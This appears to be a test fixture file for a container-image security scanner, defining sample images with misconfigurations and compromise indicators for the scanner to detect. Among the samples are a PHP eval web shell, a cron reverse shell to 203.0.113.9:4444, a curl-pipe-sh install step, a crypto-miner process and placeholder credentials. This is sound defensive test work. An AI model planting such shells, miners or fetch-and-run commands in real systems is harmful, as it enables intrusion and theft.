import type { Descriptor, Process } from '@veinmind/sdk'
import { buildZip } from '@veinmind/testing'
import type { Parts } from './sample.ts'

const basic = (login: string): string => Buffer.from(login).toString('base64')

export const redis: Parts = { files: { 'etc/redis/redis.conf': 'requirepass foobared\nbind 0.0.0.0\n' } }
export const open: Parts = { ports: ['0.0.0.0:6379->6379/tcp'], config: { ExposedPorts: { '6379/tcp': {} } } }
export const socket: Parts = { mounts: ['/var/run/docker.sock'] }
export const hostKeys: Parts = { mounts: ['/root/.aws'] }
export const privileged: Parts = { security: { privileged: true } }
export const diskDevice: Parts = {
  security: { devices: [{ path: '/dev/sda', source: '/dev/sda', type: 'block', major: 8, minor: 0, access: 'rwm' }] },
}
export const user: Parts = { user: '1000', config: { User: '1000' } }
export const setuid: Parts = { files: { 'usr/bin/bash': { content: 'x', mode: 0o4755 } } }

export const log4j: Parts = {
  files: {
    'opt/app/log4j-core-2.14.1.jar': buildZip({
      'META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties':
        'groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n',
      'org/apache/logging/log4j/core/lookup/JndiLookup.class': 'x',
    }),
  },
}
/** Packages of `test/database.ts`. */
export const exploited: Parts = npm('exploited')
export const flawed: Parts = npm('flawed')

function npm(name: string): Parts {
  return { files: { [`srv/node_modules/${name}/package.json`]: JSON.stringify({ name, version: '1.0.0' }) } }
}

export const webshell: Parts = { files: { 'var/www/a.php': "<?php @eval($_POST['a']);" } }
export const reverseShell: Parts = {
  files: { 'etc/cron.d/x': '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
}
export const rootKey: Parts = {
  files: {
    'etc/passwd': 'root:x:0:0::/root:/bin/sh\n',
    'root/.ssh/authorized_keys':
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmWqZ3v0Q2vVw9bC1XcJmQxR5pT7uYhNnLqZaEbGdFs a@b\n',
  },
}
export const emptyPassword: Parts = {
  files: { 'etc/passwd': 'root:x:0:0::/root:/bin/sh\n', 'etc/shadow': 'root::19000:0:99999:7:::\n' },
}
export const sshd: Parts = { history: ['RUN apt-get update && apt-get install -y openssh-server'] }
export const download: Parts = { history: ['RUN curl -s http://get.example.com/i.sh | sh'] }
export const buildToken: Parts = { history: ['ARG NPM_TOKEN=9f8e7d6c5b4a3210'] }

const AWS = 'aws_access_key_id = AKIAZ4Q7XN2KDW6VJHTB\n'
export const cloudKey: Parts = { files: { 'srv/credentials': AWS } }
export const deletedKey: Parts = { deleted: { 'srv/credentials': AWS } }
export const registryLogin: Parts = {
  files: {
    'root/.docker/config.json': JSON.stringify({
      auths: { 'registry.example.com': { auth: basic('deploy:Wq7zT4mK9xLp2VbN') } },
    }),
  },
}
export const database: Parts = {
  files: { 'srv/app.env': 'DATABASE_URL=postgres://app:Zk3vR8qWm1TxPd7L@db.internal/app\n' },
}
export const kubeconfig: Parts = {
  files: { 'root/.kube/config': 'apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    token: x\n' },
}

const process = (parts: Partial<Process>): Process => ({ pid: 7, name: 'x', args: [], ...parts })
const connected = (fd: number): Descriptor => ({
  fd,
  target: 'socket:[9]',
  connection: { protocol: 'tcp', local: '172.17.0.2:50000', remote: '203.0.113.9:4444', state: 'ESTABLISHED' },
})
export const miner: Parts = {
  processes: [
    process({ name: 'java', exe: '/opt/java', args: ['java', '-o', 'stratum+tcp://pool.example:3333', '-u', 'x'] }),
  ],
}
export const remoteShell: Parts = {
  processes: [
    process({ name: 'bash', exe: '/usr/bin/bash', args: ['bash', '-i'], descriptors: [0, 1, 2].map(connected) }),
  ],
}

export const oldKernel: Parts = {
  machine: {
    kernel: '5.10.0-8-amd64',
    kernelPackage: { distribution: 'debian', version: '5.10.46-4', base: '5.10.46' },
  },
}
const daemon = (name: string, settings: Readonly<Record<string, string>>): Parts => ({
  machine: {
    daemons: [
      {
        name,
        isRunning: true,
        settings: Object.entries(settings).map(([key, value]) => ({
          name: key,
          value,
          from: `/etc/${name}.json`,
          line: 1,
        })),
      },
    ],
  },
})
export const openEngine: Parts = daemon('docker', { host: 'tcp://0.0.0.0:2375' })
export const openKubelet: Parts = daemon('kubelet', { 'anonymous-auth': 'true', 'authorization-mode': 'AlwaysAllow' })
